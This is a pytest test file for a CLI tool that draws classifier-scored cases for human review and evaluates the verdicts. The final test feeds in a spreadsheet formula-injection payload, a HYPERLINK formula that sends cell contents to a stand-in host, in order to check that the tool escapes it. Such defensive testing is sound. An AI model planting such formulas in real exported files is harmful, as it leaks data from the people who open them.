"""`pumonitor audit`: from a file to cases, from verdicts to an evaluation."""

from __future__ import annotations

import csv
import json
import stat

import numpy as np
import pytest
from typer.testing import CliRunner

import pumonitor
from pumonitor import audit_plan
from pumonitor.cli.app import app

ROWS = 4000
DATA = ("--labels", "y", "--scores", "s")


@pytest.fixture(scope="module", autouse=True)
def few_simulations():
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(audit_plan, "AUDITS", 2)
        yield


@pytest.fixture(scope="module")
def window():
    rng = np.random.default_rng(11)
    positive = rng.random(ROWS) < 0.1
    scores = np.round(rng.normal(1.8 * positive), 2)
    return positive, (positive & (rng.random(ROWS) < 0.4)).astype(int), scores


@pytest.fixture(scope="module")
def file(window, tmp_path_factory):
    _, labels, scores = window
    path = tmp_path_factory.mktemp("scored") / "rows.csv"
    lines = [
        f"{row};{scores[row]};{labels[row]};{'web' if row % 2 else 'app'}" for row in range(ROWS)
    ]
    path.write_text("\n".join(["order;s;y;channel", *lines]) + "\n")
    return path


def run(*given):
    runner = CliRunner(env={"COLUMNS": "80", "NO_COLOR": "1", "TERM": "dumb"})
    return runner.invoke(app, ["audit", *(str(one) for one in given)])


@pytest.fixture(scope="module")
def cases(window, file, tmp_path_factory):
    """The file of cases, reviewed, with its design beside it."""
    path = tmp_path_factory.mktemp("review") / "cases.csv"
    result = run(
        *("draw", file, *DATA, "--threshold", 1.5, "--id", "order", "--column", "channel"),
        *("--cases", 120, "--class-prior", 0.1, "--seed", "March", "--out", path),
    )
    assert result.exit_code == 0, result.output
    assert "keep it from the reviewers" in result.output
    with path.open() as read:
        drawn = list(csv.DictReader(read))
    assert list(drawn[0]) == ["case", "id", "channel", "audit", "verdict"]
    assert all(one["channel"] == ("web" if int(one["id"]) % 2 else "app") for one in drawn)
    for name in (path, path.with_suffix(".audit.json")):
        assert stat.S_IMODE(name.stat().st_mode) == 0o600
    for one in drawn:
        one["verdict"] = str(int(window[0][int(one["id"])]))
    with path.open("w") as write:
        filled = csv.DictWriter(write, drawn[0], delimiter=";")
        filled.writeheader()
        filled.writerows(drawn)
    return path


def test_a_plan_tells_widths_and_cases_by_score(file):
    given = ("plan", file, *DATA, "--threshold", 1.5, "--class-prior", ".1,.08,.12")
    result = run(*given, "--cases", 120, "--metric", "f1", "--metric", "auc")
    assert result.exit_code == 0
    lines = [line.split() for line in result.stdout.splitlines()]
    assert ["scores", "from", "rows", "confirmed", "cases"] in lines
    assert ["threshold"] in lines
    written = json.loads(run(*given, "--width", "f1=.2", "--json").stdout)
    assert written["metrics"] == ["f1"]
    assert sum(one["cases"] for one in written["bins"]) == written["cases"]
    assert 0 < written["widths"]["f1"] <= 0.2


def test_a_share_of_the_cases_above_the_threshold_costs_width(window, file, tmp_path):
    given = (file, *DATA, "--threshold", 1.5, "--class-prior", ".1", "--cases", 120)
    result = run("plan", *given, "--metric", "recall", "--above", "85%")
    assert result.exit_code == 0, result.output
    assert "102 of the cases score at or above the threshold, asked for: 85%" in result.stdout
    assert "without --above" in result.stdout
    written = json.loads(
        run("plan", *given, "--metric", "recall", "--above", ".85", "--json").stdout
    )
    assert sum(one["cases"] for one in written["bins"] if one["above"]) == 102
    assert written["above"] == 0.85
    assert written["widths"]["recall"] > written["free_widths"]["recall"]
    free = json.loads(run("plan", *given, "--metric", "recall", "--json").stdout)
    assert free["widths"]["recall"] == pytest.approx(written["free_widths"]["recall"])
    assert (free["above"], free["free_widths"]) == (None, None)
    out = tmp_path / "cases.csv"
    drawn = run("draw", *given, "--above", "85%", "--id", "order", "--out", out)
    assert drawn.exit_code == 0, drawn.output
    with out.open() as read:
        scores = [window[2][int(one["id"])] for one in csv.DictReader(read)]
    assert sum(score >= 1.5 for score in scores) == 102


@pytest.mark.parametrize("share", ["85", "0", "100%", "some"])
def test_a_share_above_that_is_none_is_refused(file, share):
    result = run("plan", file, *DATA, "--above", share)
    assert result.exit_code == 2
    assert "must be a share of the cases" in " ".join(result.output.replace("│", " ").split())


def test_verdicts_are_counted_and_others_named(cases, tmp_path):
    assert "Audit " in run("read", cases).stdout
    with_more = tmp_path / "cases.csv"
    with_more.write_text(cases.read_text() + "121;no such id;web;;1\n")
    design = cases.with_suffix(".audit.json")
    result = run("read", with_more, "--design", design)
    assert result.exit_code == 0
    said = " ".join(result.stdout.split())
    assert "Not used: 1 verdict on cases that were not drawn: 'no such id'" in said
    written = json.loads(run("read", with_more, "--design", design, "--json").stdout)
    assert written["refused"] == {"not_drawn": 1}
    assert written["positive"] + written["negative"] == written["cases"] == 120


def test_an_audit_is_shown_as_evaluate_reads_it(window, file, cases):
    _, labels, scores = window
    given = ("show", file, *DATA, "--id", "order", "--verdicts", cases)
    result = run(*given)
    assert result.exit_code == 0, result.output
    assert "share confirmed" in result.stdout
    assert max(map(len, result.stdout.splitlines())) <= 80
    written = json.loads(run(*given, "--json").stdout)
    design = json.loads(cases.with_suffix(".audit.json").read_text())
    drawn = pumonitor.DrawnAudit.from_dict(design)
    truth = {case.id: int(window[0][int(case.id)]) for case in drawn.cases}
    ev = pumonitor.evaluate(
        labels, scores, threshold=1.5, audit=pumonitor.read_verdicts(drawn, truth)
    )
    assert written["estimates"]["f1"] == ev["f1"].to_dict()
    assert written["estimates"]["f1"]["method"] == "audit"
    share = labels.sum() / window[0].sum()
    known = json.loads(
        run(*given, "--json", "--label-frequency", f"{share - 0.02},{share + 0.02}").stdout
    )
    narrower = known["estimates"]["class_prior"]
    assert narrower["high"] - narrower["low"] < 0.9 * (ev.class_prior.high - ev.class_prior.low)
    refused = run(*given, "--label-frequency", "0.3")
    assert refused.exit_code == 2
    assert "give (low, high) or leave it out" in " ".join(refused.output.replace("│", " ").split())


def test_a_report_shows_it_with_and_without(file, cases, tmp_path):
    page = tmp_path / "audit.html"
    given = ("show", file, *DATA, "--id", "order", "--verdicts", cases, "--report", page)
    result = run(*given)
    assert result.exit_code == 0, result.output
    assert "Report: " in result.stdout
    for heading in ("With and without the audit", "Who gets confirmed, by score"):
        assert heading in page.read_text()


def test_a_plan_draws_its_widths(file, tmp_path):
    given = ("plan", file, *DATA, "--threshold", 1.5, "--class-prior", 0.1, "--cases", 120)
    chart = tmp_path / "plan.svg"
    assert run(*given, "--chart", chart).exit_code == 0
    assert "Cases reviewed" in chart.read_text()
    refused = run(*given, "--chart", tmp_path / "plan.pdf")
    assert refused.exit_code == 2
    assert "must end with .png or .svg" in " ".join(refused.output.replace("│", " ").split())


def test_undecided_cases_are_told_with_their_interval(window, file, cases, tmp_path):
    path = tmp_path / "cases.csv"
    lines = cases.read_text().splitlines()
    lines[1:9] = [f"{line[: line.rindex(';')]};undecided" for line in lines[1:9]]
    path.write_text("\n".join(lines) + "\n")
    design = cases.with_suffix(".audit.json")
    result = run(
        *("show", file, *DATA, "--id", "order", "--verdicts", path, "--design", design),
    )
    said = " ".join(result.stdout.split())
    assert "8 cases are undecided, and taken to be like the decided ones" in said
    assert "intervals are: Share of positives 0." in said


def test_cases_are_never_written_over(file, cases):
    before = cases.read_text()
    result = run(
        *("draw", file, *DATA, "--id", "order", "--threshold", 1.5, "--cases", 20),
        *("--class-prior", 0.1, "--out", cases),
    )
    assert result.exit_code == 2
    assert "may hold verdicts" in " ".join(result.output.replace("│", " ").split())
    assert cases.read_text() == before


@pytest.mark.parametrize(
    ("more", "said"),
    [
        (("--column", "s"), "'s' is the score: reviewers who see it judge by it"),
        (("--width", "f1"), "'f1' must be METRIC=WIDTH, as in f1=.15"),
        (("--width", "f1=.2", "--cases", "30"), "give cases or width, not both"),
        (("--metric", "f11", "--cases", "30"), "did you mean 'f1'"),
        (("--id", "nothing"), "nothing"),
        (("--id", "channel", "--cases", "30"), "ids must be all different"),
    ],
)
def test_draws_that_cannot_be(file, tmp_path, more, said):
    out = tmp_path / "cases.csv"
    given = ("--threshold", 1.5, "--id", "order", "--class-prior", 0.1, "--out", out)
    result = run("draw", file, *DATA, *given, *more)
    assert result.exit_code == 2
    assert said in " ".join(result.output.replace("│", " ").split())
    assert not out.exists()


def test_more_cases_than_there_are_rows_are_said_to_be_all_of_them(file):
    given = ("--threshold", 1.5, "--class-prior", 0.1, "--cases", 50_000)
    said = " ".join(run("plan", file, *DATA, *given).stdout.split())
    assert "50,000 cases were asked for, and" in said
    assert "rows are unconfirmed: all of them are drawn" in said


def test_verdicts_that_cannot_be_read(tmp_path, cases):
    design = cases.with_suffix(".audit.json")
    wrong = tmp_path / "wrong.csv"
    wrong.write_text("id,answer\n1,1\n")
    for given, said in [
        ((tmp_path / "none.csv", "--design", design), "none.csv of cases with verdicts"),
        ((tmp_path / "none.csv",), "none.csv of cases with verdicts"),
        ((wrong,), "say where it is with --design"),
        ((wrong, "--design", design), "has no column 'verdict' (there are id, answer)"),
        ((cases, "--design", wrong), "is no design of an audit"),
    ]:
        result = run("read", *given)
        assert result.exit_code == 2
        assert said in " ".join(result.output.replace("│", " ").split())


def test_nothing_in_the_file_for_reviewers_is_a_formula(window, tmp_path):
    """Ids and columns come from whoever pays, and reviewers open them in a spreadsheet."""
    _, labels, scores = window
    link = '=HYPERLINK("http://x.example/?"&A1)'
    rows = tmp_path / "rows.csv"
    with rows.open("w") as file:
        table = csv.writer(file, delimiter=";")
        table.writerow(["order", "s", "y", "shop", "amount"])
        for row in range(ROWS):
            table.writerow([f"@{row}", scores[row], labels[row], link, -row - 0.5])
    path = tmp_path / "cases.csv"
    result = run(
        *("draw", rows, *DATA, "--threshold", 1.5, "--id", "order", "--column", "shop"),
        *("--column", "amount", "--cases", 60, "--class-prior", 0.1, "--out", path),
    )
    assert result.exit_code == 0, result.output
    with path.open() as read:
        drawn = list(csv.DictReader(read))
    for case in drawn:
        assert case["shop"] == f"'{link}"
        assert case["id"].startswith("'@")
        # A number is none.
        assert float(case["amount"]) < 0
        case["verdict"] = "0"
    with path.open("w") as write:
        filled = csv.DictWriter(write, drawn[0])
        filled.writeheader()
        filled.writerows(drawn)
    read = json.loads(run("read", path, "--json").stdout)
    assert (read["negative"], read["refused"]) == (len(drawn), {})
